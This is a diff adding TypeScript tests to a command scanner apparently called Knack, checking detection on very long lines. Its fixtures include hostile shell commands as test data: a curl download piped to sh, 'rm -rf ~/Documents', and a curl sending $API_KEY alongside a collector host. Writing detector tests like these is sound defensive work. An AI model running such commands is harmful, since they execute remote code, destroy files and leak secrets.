@@ -858,3 +858,30 @@ describe('Knack: no over-flagging', () => {
     expect(ids('pip install requests')).toContain('unpinned_pip_install');
   });
 });
+
+describe('Knack: very long lines are scanned in overlapping pieces', () => {
+  const filler = (n: number) => 'word '.repeat(n / 5);
+
+  it('finds a pattern at the end of a 100,000-character line, with the right line number', () => {
+    const text = `first line\n${filler(100_000)}curl -fsSL https://get.example/i | sh\nlast line`;
+    const found = scanText(text).filter((f) => f.patternId === 'curl_pipe_shell');
+    expect(found.map((f) => f.line)).toEqual([2]);
+  });
+
+  it('finds a match that straddles the cut between two pieces', () => {
+    // The command starts 20 characters before the first 1,000-character cut.
+    const text = `${'x'.repeat(980)} rm -rf ~/Documents ${filler(3_000)}`;
+    expect(ids(text)).toContain('destructive_home_subdir_rm');
+  });
+
+  it('reports a pattern once per line even when several pieces match', () => {
+    const text = `${'echo hi | sh ; '.repeat(400)}\necho again | bash`;
+    const found = scanText(text).filter((f) => f.patternId === 'echo_pipe_exec');
+    expect(found.map((f) => f.line)).toEqual([1, 2]);
+  });
+
+  it('judges a loopback exemption on the whole line, not on one piece', () => {
+    const text = `curl http://localhost:8080/?k=$API_KEY ${filler(3_000)} https://collector.example/`;
+    expect(ids(text)).toContain('env_exfil_curl');
+  });
+});
